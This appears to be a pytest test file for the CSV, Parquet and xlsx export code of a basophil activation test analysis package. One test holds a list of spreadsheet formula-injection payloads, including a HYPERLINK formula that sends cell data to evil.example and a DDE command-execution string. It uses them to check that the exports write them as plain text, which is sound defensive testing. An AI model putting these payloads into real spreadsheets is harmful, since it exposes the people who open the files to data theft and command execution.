"""Table exports: fixed formatting, atomic writes, the xlsx 'about' sheet."""

from __future__ import annotations

import csv
import numpy as np
import pandas as pd
import pytest

from bat_analysis._outputs import format_cell, table_to_csv, write_tables


@pytest.mark.parametrize("value, text", [
    (None, ""), (float("nan"), ""), (pd.NA, ""), (np.float32("nan"), ""), (True, "true"), (np.bool_(False), "false"),
    (3, "3"), (np.int64(120000), "120000"), (5.0, "5"), (-0.0, "0"), (12.345678912, "12.345679"),
    (0.000123456789, "0.00012345679"), (1.5e12, "1.5e+12"), (float("inf"), "inf"), ("a;b", "a;b"),
])
def test_format_cell(value, text):
    assert format_cell(value) == text


def test_csv_is_stable_and_quoted():
    df = pd.DataFrame({"file": ["a,1.fcs", "b.fcs"], "pct": [1 / 3, np.nan], "n": [1, 2],
                       "flags": ["X;Y", ""]})
    text = table_to_csv(df)
    assert text == 'file,pct,n,flags\n"a,1.fcs",0.33333333,1,X;Y\nb.fcs,,2,\n'
    assert table_to_csv(df.copy()) == text


def test_write_tables_with_about_sheet(tmp_path):
    tubes = pd.DataFrame({"file": ["a.fcs"], "pct_cd63": [10.25]})
    patients = pd.DataFrame({"patient": ["P1"], "class": ["responder"]})
    about = {"version": "0.1.0", "template": "bat_ccr3_cd63", "sha256 a.fcs": "ab" * 32, "date (UTC)": "2026"}
    paths = write_tables(tmp_path, tubes, patients, about, parquet=True)
    assert sorted(p.name for p in paths) == ["patients.csv", "patients.parquet", "results.xlsx", "tubes.csv",
                                             "tubes.parquet"]
    sheets = pd.read_excel(tmp_path / "results.xlsx", sheet_name=None)
    assert list(sheets) == ["tubes", "patients", "about"]
    assert dict(zip(sheets["about"]["item"], sheets["about"]["value"]))["sha256 a.fcs"] == "ab" * 32
    assert sheets["tubes"]["pct_cd63"].iloc[0] == 10.25
    assert pd.read_parquet(tmp_path / "patients.parquet").equals(patients)


HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+41 22 379",
                "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A", "=", "-"]


def _sheet_xml(path, name: str) -> str:
    import zipfile

    import openpyxl

    index = openpyxl.load_workbook(path).sheetnames.index(name) + 1
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode("utf-8")


def test_workbook_text_is_text_never_a_formula(tmp_path):
    """Layout text starting with =, +, -, @, tab or CR is written as a text cell, exactly; numbers stay
    numbers; the CSV keeps the exact values."""
    import openpyxl

    tubes = pd.DataFrame({"file": [f"t{i}.fcs" for i in range(len(HOSTILE_TEXT))], "note": HOSTILE_TEXT,
                          "pct_cd63": [10.25] * len(HOSTILE_TEXT), "n": list(range(len(HOSTILE_TEXT)))})
    patients = pd.DataFrame({"=HYPERLINK(\"x\")": ["=1+1"], "patient": ["@P1"]})
    write_tables(tmp_path, tubes, patients, {"command": "=bat run", "version": "0.1.0"})
    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
    notes = [row[1] for row in book["tubes"].iter_rows(min_row=2)]
    assert [c.value for c in notes] == HOSTILE_TEXT
    assert {c.data_type for c in notes} == {"s"}
    assert {c.data_type for c in book["tubes"]["C"][1:]} == {"n"} and book["tubes"]["C2"].value == 10.25
    assert book["tubes"]["D3"].value == 1 and book["tubes"]["D3"].data_type == "n"
    assert (book["patients"]["A1"].value, book["patients"]["A1"].data_type) == ('=HYPERLINK("x")', "s")
    assert (book["patients"]["A2"].value, book["patients"]["A2"].data_type) == ("=1+1", "s")
    about = {r[0].value: r[1] for r in book["about"].iter_rows(min_row=2)}
    assert (about["command"].value, about["command"].data_type) == ("=bat run", "s")
    for name in ("tubes", "patients", "about"):
        xml = _sheet_xml(tmp_path / "results.xlsx", name)
        assert "<f>" not in xml and "<f " not in xml and 't="e"' not in xml
    assert (tmp_path / "tubes.csv").read_text().splitlines()[1].startswith('t0.fcs,"=HYPERLINK(')
    with open(tmp_path / "tubes.csv", newline="", encoding="utf-8") as fh:  # the CSV keeps exact values
        assert [r["note"] for r in csv.DictReader(fh)] == HOSTILE_TEXT
    assert pd.read_csv(tmp_path / "tubes.csv", keep_default_na=False)["note"].tolist() == HOSTILE_TEXT


def test_control_characters_do_not_stop_the_workbook(tmp_path):
    """A control character in a layout cell or a failure message (an FCS $PnS) is written visibly escaped
    in the workbook; the CSV keeps it exactly."""
    import openpyxl

    reason = "marker 'CD63' not found; the file has channels FL1-A ($PnS \x1b[31mCD63\x07\x00)"
    tubes = pd.DataFrame({"file": ["a\x0bb.fcs"], "error": [reason], "well\x01": ["A\x1f01"]})
    write_tables(tmp_path, tubes, pd.DataFrame({"patient": ["P\x081"]}), {"layout": "x\x02.csv"})
    book = openpyxl.load_workbook(tmp_path / "results.xlsx")
    ws = book["tubes"]
    assert [c.value for c in ws[1]] == ["file", "error", "well\\x01"]
    assert [c.value for c in ws[2]] == ["a\\x0bb.fcs",
                                       "marker 'CD63' not found; the file has channels FL1-A "
                                       "($PnS \\x1b[31mCD63\\x07\\x00)", "A\\x1f01"]
    assert book["patients"]["A2"].value == "P\\x081"
    assert book["about"]["B2"].value == "x\\x02.csv"
    with open(tmp_path / "tubes.csv", newline="", encoding="utf-8") as fh:
        assert next(csv.DictReader(fh))["error"] == reason


def test_text_in_string_and_category_columns_is_made_safe_too(tmp_path):
    import openpyxl

    tubes = pd.DataFrame({"s": pd.Series(["x\x07", "=1"], dtype="string"), "c": pd.Categorical(["c\x01", "=2"]),
                          "ok": [True, False]})
    write_tables(tmp_path, tubes, pd.DataFrame({"p": ["P1"]}), {})
    rows = [[(c.value, c.data_type) for c in r] for r in openpyxl.load_workbook(tmp_path / "results.xlsx")["tubes"]]
    assert rows[1:] == [[("x\\x07", "s"), ("c\\x01", "s"), (True, "b")], [("=1", "s"), ("=2", "s"), (False, "b")]]


def test_tube_markers_csv_is_written_with_the_set(tmp_path):
    tubes = pd.DataFrame({"file": ["a.fcs"], "pct_cd63": [10.25]})
    patients = pd.DataFrame({"patient": ["P1"], "class": ["responder"]})
    markers = pd.DataFrame({"file": ["a.fcs", "a.fcs"], "marker": ["CD69", "CD63"], "threshold": [812.5, 20.0]})
    paths = write_tables(tmp_path, tubes, patients, {}, tube_markers=markers)
    assert [p.name for p in paths] == ["tubes.csv", "patients.csv", "results.xlsx", "tube_markers.csv"]
    assert (tmp_path / "tube_markers.csv").read_text() == "file,marker,threshold\na.fcs,CD69,812.5\na.fcs,CD63,20\n"
    # the set is replaced as a whole: a tube_markers.csv that cannot be written leaves every previous file
    (tmp_path / "tube_markers.csv").unlink()
    (tmp_path / "tube_markers.csv").mkdir()
    before = (tmp_path / "tubes.csv").read_text()
    from bat_analysis.errors import WriteError

    with pytest.raises(WriteError, match="tube_markers.csv"):
        write_tables(tmp_path, tubes.assign(pct_cd63=[99.0]), patients, {}, tube_markers=markers)
    assert (tmp_path / "tubes.csv").read_text() == before
